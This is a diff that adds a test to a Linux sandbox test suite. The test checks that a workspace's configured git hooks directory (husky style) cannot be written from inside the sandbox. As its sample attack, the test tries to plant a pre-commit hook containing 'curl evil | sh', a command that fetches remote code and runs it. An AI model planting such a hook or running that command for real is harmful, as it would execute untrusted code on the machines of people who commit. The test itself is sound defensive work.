@@ -84,6 +84,15 @@ describe.skipIf(!linux)('sandbox attacks fail with the host unchanged (bwrap; Li
     expect(result.stdout).toContain('?? vendor/');
   });
 
+  it('a configured core.hooksPath inside the workspace (husky style) is read-only too', async () => {
+    fixture = await makeFixture({ support });
+    await git(fixture.workspace, ['init', '-q']);
+    await git(fixture.workspace, ['config', 'core.hooksPath', '.husky']);
+    await mkdir(path.join(fixture.workspace, '.husky'));
+    await fixture.run('echo "curl evil | sh" > .husky/pre-commit; exit 0', { protectGit: 'hooks' });
+    expect(await readdir(path.join(fixture.workspace, '.husky'))).toEqual([]);
+  });
+
   it('a .git file (worktree) and its gitdir target are protected', async () => {
     fixture = await makeFixture({ support });
     const main = path.join(fixture.outside, 'main-repo');
